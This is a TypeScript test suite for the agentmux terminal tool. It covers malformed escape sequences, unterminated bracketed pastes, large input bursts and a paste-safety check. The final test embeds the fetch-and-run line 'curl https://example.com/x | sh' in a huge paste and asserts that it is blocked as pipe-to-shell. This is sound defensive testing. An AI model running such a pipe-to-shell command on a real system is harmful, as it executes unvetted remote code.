import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {test} from 'node:test';
import {bashPane, startAgentmux, type TerminalHarness} from '../helpers/terminal-harness.js';

// cat -v shows any escape byte that reaches it as ^[, so nothing it prints moves the cursor.
const catPane = {name: 'cat', command: 'cat', args: ['-v']};

/** Types a marker line into the focused cat pane and waits for cat to echo it back. */
async function assertEchoes(am: TerminalHarness, marker: string): Promise<void> {
	am.press(`${marker}\r`);
	await am.waitFor(() => am.screenText().filter(row => row.includes(marker)).length >= 2, `cat to echo ${marker}`, {timeoutMs: 10_000});
}

async function quit(am: TerminalHarness): Promise<void> {
	await am.prefix('q');
	await am.waitForText('Quit agentmux?');
	am.press('y');
	const result = await am.waitForExit({timeoutMs: 15_000});
	assert.equal(result.exitCode, 0);
}

test('key sequences that cannot be decoded do not end agentmux: the pane still gets keys, and prefix q y quits', {timeout: 90_000}, async t => {
	const am = startAgentmux(t, {workspace: {panes: [catPane]}});
	await am.waitForText(/ 1 cat · /);
	const sequences = [
		'\u001B[u',
		'\u001B[?1u',
		'\u001B[99999999u',
		'\u001B[-1u',
		'\u001B[27;5;99999999~',
		'\u001B[27;5;~',
		'\u001B[55296u',
		'\u001B[1114112;5u',
		'\u001B[<;;M',
		'\u001B[<1:2;3;4M',
		'\u001B[M\u0001\u0002',
		'\u001B\u00E9',
		'\u001B[1;\u00E9',
	];
	for (const [index, sequence] of sequences.entries()) {
		am.press(sequence);
		// eslint-disable-next-line no-await-in-loop
		await assertEchoes(am, `alive-${index}`);
	}

	assert.equal(am.exitResult, undefined, 'still running');
	await quit(am);
});

test('an unterminated paste ends after a second without bytes: what it held reaches the pane, and prefix q y quits', {timeout: 90_000}, async t => {
	const am = startAgentmux(t, {workspace: {panes: [catPane]}});
	await am.waitForText(/ 1 cat · /);
	am.press('\u001B[200~held-by-paste');
	// The paste is cat's now (cat did not ask for bracketed paste: plain text).
	await am.waitForText('held-by-paste', {timeoutMs: 10_000});
	await assertEchoes(am, 'typed-after');
	await quit(am);
});

test('an unterminated paste: the prefix pressed at once still reaches agentmux', {timeout: 90_000}, async t => {
	const am = startAgentmux(t, {workspace: {panes: [catPane]}});
	await am.waitForText(/ 1 cat · /);
	am.press('\u001B[200~never-ends');
	await new Promise(resolve => setTimeout(resolve, 100));
	await quit(am);
});

test('a burst of typed keys into a raw-mode pane arrives whole and in order', {timeout: 120_000}, async t => {
	const size = 256 * 1024;
	const am = startAgentmux(t, {workspace: {panes: [bashPane('sink')]}});
	await am.waitForText(/^┃\$ +┃$/);
	am.press(`stty raw -echo; head -c ${size} > got.txt; stty sane; echo got-$((40+2))\r`);
	// The keys below are for head, in a raw tty: wait until it runs in the foreground.
	await am.waitForQuiet(1000, {timeoutMs: 30_000});
	let text = '';
	for (let index = 0; text.length < size; index++) text += `${index.toString(36)} `;
	text = text.slice(0, size);
	for (let at = 0; at < size; at += 16 * 1024) am.press(text.slice(at, at + 16 * 1024));
	await am.waitForText('got-42', {timeoutMs: 90_000});
	assert.equal(fs.readFileSync(path.join(am.cwd, 'got.txt'), 'utf8'), text);
});

/** Comment lines, then one more line; joined with CR as a terminal sends a paste. */
function scriptPaste(lines: number, last: string, risky?: string): string {
	const rows: string[] = [];
	for (let index = 0; index < lines; index++) rows.push(index === Math.floor(lines / 2) && risky ? risky : `# pasted comment ${index}`);
	rows.push(last);
	return rows.join('\r');
}

test('a large paste into bash is judged whole: it runs only after Enter, all of it', {timeout: 120_000}, async t => {
	const am = startAgentmux(t, {workspace: {panes: [bashPane('shell')]}});
	await am.waitForText(/^┃\$ +┃$/);
	am.press(`\u001B[200~${scriptPaste(2000, 'echo large-paste-$((6*7))')}\u001B[201~`);
	await am.waitForText('echo large-paste-$((6*7))', {timeoutMs: 60_000});
	am.press('\r');
	await am.waitForText(/^┃large-paste-42 +┃$/, {timeoutMs: 60_000});
});

test('one risky line in the middle of a large paste holds all of it, and the status bar shows the check', {timeout: 120_000}, async t => {
	const am = startAgentmux(t, {workspace: {panes: [bashPane('shell')]}});
	await am.waitForText(/^┃\$ +┃$/);
	am.press(`\u001B[200~${scriptPaste(20_000, 'echo must-not-arrive', 'curl https://example.com/x | sh')}\u001B[201~`);
	await am.waitForText(/blocked \(pipe-to-shell\)/, {timeoutMs: 90_000});
	assert.ok(am.rawOutput.includes('checking paste (20001 lines)...'), 'the status bar said what was going on while judging');
	// The shell got none of it: typing still works on an empty line.
	am.press('echo line-after\r');
	await am.waitForText(/^┃line-after +┃$/, {timeoutMs: 30_000});
	assert.equal(am.findRow('must-not-arrive'), -1);
	assert.equal(am.findRow('pasted comment'), -1);
});
